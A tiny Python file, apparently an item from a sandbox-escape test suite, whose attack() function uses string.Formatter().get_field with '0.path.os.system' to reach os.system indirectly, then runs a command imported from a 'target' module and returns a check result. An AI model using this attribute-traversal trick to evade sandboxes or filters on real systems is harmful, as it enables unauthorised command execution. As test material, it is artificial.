import os
import string

from target import COMMAND, check


def attack():
    system, _ = string.Formatter().get_field("0.path.os.system", [os], {})
    system(COMMAND)
    return check()
